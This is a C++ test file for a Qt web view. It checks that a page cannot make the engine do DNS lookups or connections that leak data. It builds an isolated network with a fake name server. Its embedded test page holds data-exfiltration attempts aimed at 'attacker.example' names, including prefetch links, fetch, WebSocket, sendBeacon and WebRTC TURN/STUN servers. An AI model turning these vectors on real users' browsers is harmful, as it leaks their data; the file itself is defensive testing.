// The web engine looks up no name a page chose: a name server would learn
// the name, and with it whatever the page put into it, before any connection
// is refused. Watched for real: the test runs a copy of itself in a network
// of its own (a private network and mount namespace, made by unshare), whose
// only name server is a listener of the test's on 127.0.0.1:53 that hears
// every query and answers that no such name exists. The system's own lookup
// reaches it there (so the listener is known to hear what the resolver
// sends); the engine's must not, for any way a page has to make one, WebRTC
// with servers whose names carry data among them (from a frame the page
// makes and, standing for a page that found WebRTC somewhere after all, from
// a world where nothing took it away). Nor does the engine open a socket to
// the servers' ports or the proxy's.
#include "platform/web/web_view.h"
#include "web_test_support.h"

#include <QFile>
#include <QFileInfo>
#include <QHostInfo>
#include <QNetworkDatagram>
#include <QProcess>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QUdpSocket>

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_tun.h>
#include <net/if.h>
#include <net/route.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include <gtest/gtest.h>

using namespace web_test;

namespace {

// Set, to a folder for the copy's files, in the copy that runs in its own
// network.
constexpr char kOwnNetwork[] = "ORVANE_TEST_OWN_NETWORK";

// The name a DNS message asks for (lower case), or an empty string.
QString queriedName(const QByteArray &message) {
    QStringList labels;
    qsizetype at = 12;
    while (at < message.size()) {
        const int length = quint8(message[at]);
        if (length == 0 || length > 63 || at + 1 + length > message.size())
            break;
        labels << QString::fromLatin1(message.mid(at + 1, length)).toLower();
        at += 1 + length;
    }
    return labels.join(u'.');
}

// The answer that no such name exists, to a query of `message`.
QByteArray noSuchName(const QByteArray &message) {
    if (message.size() < 12)
        return {};
    QByteArray answer = message;
    answer[2] = char(0x81 | (quint8(message[2]) & 0x01));  // an answer, the query's recursion flag
    answer[3] = char(0x83);                                // recursion available, no such name
    for (int i = 6; i < 12; i++)
        answer[i] = 0;  // no answers, authorities or additions
    return answer;
}

// A name server on 127.0.0.1:53, by UDP and TCP, that notes each name asked
// for; and listeners on other TCP ports that note each connection.
class NameServer {
public:
    explicit NameServer(const QList<quint16> &ports) {
        m_udp.bind(QHostAddress::LocalHost, 53);
        m_tcp.listen(QHostAddress::LocalHost, 53);
        QObject::connect(&m_udp, &QUdpSocket::readyRead, [this] {
            while (m_udp.hasPendingDatagrams()) {
                const QNetworkDatagram query = m_udp.receiveDatagram();
                m_names << queriedName(query.data());
                m_udp.writeDatagram(query.makeReply(noSuchName(query.data())));
            }
        });
        QObject::connect(&m_tcp, &QTcpServer::newConnection, [this] {
            while (QTcpSocket *socket = m_tcp.nextPendingConnection()) {
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QByteArray message = socket->readAll().mid(2);
                    m_names << queriedName(message);
                    const QByteArray answer = noSuchName(message);
                    socket->write(QByteArray(1, char(answer.size() >> 8)) + char(answer.size() & 0xff) + answer);
                });
                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
        for (quint16 port : ports) {
            auto *server = new QTcpServer;
            m_others.emplace_back(server);
            server->listen(QHostAddress::LocalHost, port);
            QObject::connect(server, &QTcpServer::newConnection, [this, server, port] {
                while (QTcpSocket *socket = server->nextPendingConnection()) {
                    m_connections << QStringLiteral("a connection to port %1").arg(port);
                    socket->deleteLater();
                }
            });
        }
    }

    bool isListening() const {
        if (m_udp.state() != QAbstractSocket::BoundState || !m_tcp.isListening())
            return false;
        for (const auto &server : m_others)
            if (!server->isListening())
                return false;
        return true;
    }
    const QStringList &names() const { return m_names; }
    const QStringList &connections() const { return m_connections; }

private:
    QUdpSocket m_udp;
    QTcpServer m_tcp;
    std::vector<std::unique_ptr<QTcpServer>> m_others;
    QStringList m_names;
    QStringList m_connections;
};

// The interfaces of this network, by name.
QStringList interfaces() {
    QStringList names;
    if (struct if_nameindex *list = if_nameindex()) {
        for (struct if_nameindex *i = list; i->if_index != 0; i++)
            names << QString::fromLatin1(i->if_name);
        if_freenameindex(list);
    }
    return names;
}

bool bringUp(int fd, const char *name) {
    struct ifreq request;
    std::memset(&request, 0, sizeof request);
    std::strncpy(request.ifr_name, name, IFNAMSIZ - 1);
    if (::ioctl(fd, SIOCGIFFLAGS, &request) != 0)
        return false;
    request.ifr_flags |= IFF_UP | IFF_RUNNING;
    return ::ioctl(fd, SIOCSIFFLAGS, &request) == 0;
}

bool setAddress(int fd, const char *name, unsigned long which, const char *address) {
    struct ifreq request;
    std::memset(&request, 0, sizeof request);
    std::strncpy(request.ifr_name, name, IFNAMSIZ - 1);
    auto *in = reinterpret_cast<struct sockaddr_in *>(&request.ifr_addr);
    in->sin_family = AF_INET;
    return ::inet_pton(AF_INET, address, &in->sin_addr) == 1 && ::ioctl(fd, which, &request) == 0;
}

// This network as a machine on one has it: loopback up, and an interface
// with a default route through it, without which WebRTC gathers nothing at
// all. The interface leads nowhere: what goes out through it comes to a
// descriptor of this test's, which reads none of it.
class Network {
public:
    Network() {
        const int control = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (control < 0 || !bringUp(control, "lo")) {
            fail("loopback", control);
            return;
        }
        m_tap = ::open("/dev/net/tun", O_RDWR | O_CLOEXEC);
        struct ifreq request;
        std::memset(&request, 0, sizeof request);
        request.ifr_flags = IFF_TAP | IFF_NO_PI;
        std::strncpy(request.ifr_name, kUplink, IFNAMSIZ - 1);
        if (m_tap < 0 || ::ioctl(m_tap, TUNSETIFF, &request) != 0 ||
            !setAddress(control, kUplink, SIOCSIFADDR, "10.9.9.2") ||
            !setAddress(control, kUplink, SIOCSIFNETMASK, "255.255.255.0") || !bringUp(control, kUplink)) {
            fail("an interface through /dev/net/tun", control);
            return;
        }
        struct rtentry route;
        std::memset(&route, 0, sizeof route);
        auto address = [](struct sockaddr *to, const char *text) {
            auto *in = reinterpret_cast<struct sockaddr_in *>(to);
            in->sin_family = AF_INET;
            ::inet_pton(AF_INET, text, &in->sin_addr);
        };
        address(&route.rt_dst, "0.0.0.0");
        address(&route.rt_genmask, "0.0.0.0");
        address(&route.rt_gateway, "10.9.9.1");
        route.rt_flags = RTF_UP | RTF_GATEWAY;
        char device[IFNAMSIZ];
        std::strncpy(device, kUplink, IFNAMSIZ);
        route.rt_dev = device;
        if (::ioctl(control, SIOCADDRT, &route) != 0) {
            fail("a default route", control);
            return;
        }
        ::close(control);
    }
    ~Network() {
        if (m_tap >= 0)
            ::close(m_tap);
    }
    // What could not be made, and why; empty when all was.
    const std::string &error() const { return m_error; }

private:
    static constexpr char kUplink[] = "uplink0";
    void fail(const char *what, int control) {
        m_error = std::string("could not make ") + what + ": " + std::strerror(errno);
        if (control >= 0)
            ::close(control);
    }
    int m_tap = -1;
    std::string m_error;
};

// `path` shows `text` in this mount namespace.
bool showInPlace(const QString &folder, const char *path, const QByteArray &text) {
    const QString copy = folder + u'/' + QFileInfo(QString::fromLatin1(path)).fileName();
    QFile file(copy);
    if (!file.open(QIODevice::WriteOnly) || file.write(text) != text.size())
        return false;
    file.close();
    return ::mount(QFile::encodeName(copy).constData(), path, nullptr, MS_BIND, nullptr) == 0;
}

// The page: names carrying data, by every way it has to make the engine
// look one up; and WebRTC from a frame it makes at once.
const char *Page = R"html(<!DOCTYPE html><html><head>
<link rel="dns-prefetch" href="//prefetch-data.attacker.example/">
<link rel="preconnect" href="http://preconnect-data.attacker.example/">
<link rel="prefetch" href="http://prefetched-data.attacker.example/x">
<link rel="stylesheet" href="http://sheet-data.attacker.example/x.css">
</head><body>
<img src="http://picture-data.attacker.example/x.png">
<a href="http://link-data.attacker.example/">a link</a>
<script>
window.tried = {};
try { new WebSocket('ws://socket-data.attacker.example/'); tried.socket = 'made'; } catch (e) { tried.socket = 'refused'; }
fetch('http://fetch-data.attacker.example/').then(function () { tried.fetch = 'answered'; }, function () { tried.fetch = 'refused'; });
try { navigator.sendBeacon('http://beacon-data.attacker.example/', 'x'); } catch (e) {}
var frame = document.body.appendChild(document.createElement('iframe'));
var Connection = frame.contentWindow.RTCPeerConnection;
tried.frame = typeof Connection;
if (Connection) {
  var pc = new Connection({iceServers: [{urls: ['turn:frame-data.attacker.example:3478?transport=tcp'],
                                         username: 'u', credential: 'c'}]});
  pc.createDataChannel('out');
  pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
}
</script></body></html>)html";

// WebRTC where nothing took it away: gathers what its servers give, and
// notes "complete" in `gathered` once it has tried them all.
const char *Gathering = R"js(window.gathered = 'pending';
(function () {
  var pc = new RTCPeerConnection({iceServers: [
    {urls: ['turn:engine-data.attacker.example:3478?transport=tcp', 'turn:127.0.0.1:3478?transport=tcp',
            'turns:tls-data.attacker.example:5349?transport=tcp'], username: 'u', credential: 'c'},
    {urls: ['stun:stun-data.attacker.example:3478']}]});
  pc.onicegatheringstatechange = function () { if (pc.iceGatheringState === 'complete') gathered = 'complete'; };
  pc.createDataChannel('out');
  pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); })
    .catch(function (e) { gathered = String(e); });
})();
true)js";

}  // namespace

TEST(EngineLookups, APageMakesTheEngineLookUpNoName) {
    if (::geteuid() != 0)
        GTEST_SKIP() << "Not run: a network of the test's own, where its listener is the only name server, needs "
                        "root (unshare of a network and mount namespace). Run as root to watch the engine's lookups.";
    QTemporaryDir folder;
    ASSERT_TRUE(folder.isValid());
    QProcess copy;
    copy.setProcessChannelMode(QProcess::MergedChannels);
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QString::fromLatin1(kOwnNetwork), folder.path());
    copy.setProcessEnvironment(environment);
    copy.start(QStringLiteral("unshare"),
               {"--net", "--mount", "--propagation", "private", "--", QCoreApplication::applicationFilePath(),
                "--gtest_also_run_disabled_tests", "--gtest_filter=EngineLookups.DISABLED_InsideANetworkOfItsOwn"});
    ASSERT_TRUE(copy.waitForStarted(30000)) << "unshare did not start: " << copy.errorString().toStdString();
    // A deadline that only catches a hang.
    ASSERT_TRUE(copy.waitForFinished(300000)) << "the copy in its own network did not finish";
    const QString output = QString::fromLocal8Bit(copy.readAll());
    EXPECT_EQ(copy.exitStatus(), QProcess::NormalExit) << output.toStdString();
    EXPECT_EQ(copy.exitCode(), 0) << output.toStdString();
    // The copy ran the test, rather than skipping it or running none.
    EXPECT_TRUE(output.contains("[  PASSED  ] 1 test")) << output.toStdString();
    EXPECT_FALSE(output.contains("[  SKIPPED ]")) << output.toStdString();
}

// Run by the test above, inside the network it made.
TEST(EngineLookups, DISABLED_InsideANetworkOfItsOwn) {
    const QString folder = qEnvironmentVariable(kOwnNetwork);
    if (folder.isEmpty())
        GTEST_SKIP() << "Runs only inside a network of its own, made by EngineLookups.APageMakesTheEngineLookUpNoName";
    // Nothing but loopback here (and the interface this test makes, which
    // leads nowhere): no lookup or connection can get out, and the ports
    // taken are this network's own.
    ASSERT_EQ(interfaces(), QStringList({"lo"})) << "not in a network of its own";
    const Network network;
    ASSERT_EQ(network.error(), "");
    ASSERT_TRUE(showInPlace(folder, "/etc/resolv.conf", "nameserver 127.0.0.1\noptions attempts:1 timeout:1\n"))
        << std::strerror(errno);
    ASSERT_TRUE(showInPlace(folder, "/etc/nsswitch.conf", "hosts: files dns\n")) << std::strerror(errno);
    NameServer server({9, 443, 3478, 5349});
    ASSERT_TRUE(server.isListening());

    // The system's lookup reaches the listener.
    bool looked = false;
    QHostInfo::lookupHost(QStringLiteral("system-control.orvane-test.example"),
                          [&](const QHostInfo &) { looked = true; });
    ASSERT_TRUE(waitUntil([&] { return looked; }, 60000));
    ASSERT_TRUE(server.names().contains("system-control.orvane-test.example"))
        << server.names().join(' ').toStdString();

    StepWatch watch;
    watch.step("the page");
    QWidget window;
    window.resize(600, 400);
    auto *view = new platform::WebView(&window);
    view->resize(600, 400);
    window.show();
    const QString document = folder + QStringLiteral("/page.md");
    ASSERT_EQ(load(*view, QString::fromUtf8(Page), QUrl::fromLocalFile(document)), true);
    EXPECT_EQ(evaluateText(*view, "tried.frame"), "undefined");
    watch.step("WebRTC where nothing took it away");
    ASSERT_TRUE(evaluate(*view, QString::fromUtf8(Gathering), QWebEngineScript::ApplicationWorld).toBool());
    ASSERT_TRUE(waitUntil(
        [&] { return evaluateText(*view, "String(window.gathered)", QWebEngineScript::ApplicationWorld) != "pending"; },
        150000));
    const QString gathered = evaluateText(*view, "String(window.gathered)", QWebEngineScript::ApplicationWorld);
    EXPECT_EQ(gathered, "complete");
    watch.step("what the page tried");
    ASSERT_TRUE(waitUntil([&] { return evaluateText(*view, "String(tried.fetch)") != "undefined"; }));

    for (const QString &name : server.names())
        EXPECT_FALSE(name.endsWith("attacker.example")) << "looked up: " << name.toStdString();
    EXPECT_TRUE(server.connections().isEmpty()) << server.connections().join(u'\n').toStdString();
}
